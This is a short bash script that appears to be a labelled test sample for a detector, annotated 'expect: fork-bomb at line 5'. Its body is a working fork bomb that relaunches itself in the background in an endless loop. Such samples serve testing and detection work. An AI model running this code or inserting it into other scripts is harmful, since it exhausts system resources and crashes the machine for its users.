#!/bin/bash
# shows: an endless loop that starts itself in the background
# expect: fork-bomb at line 5
while true; do
  bash "$0" &
done
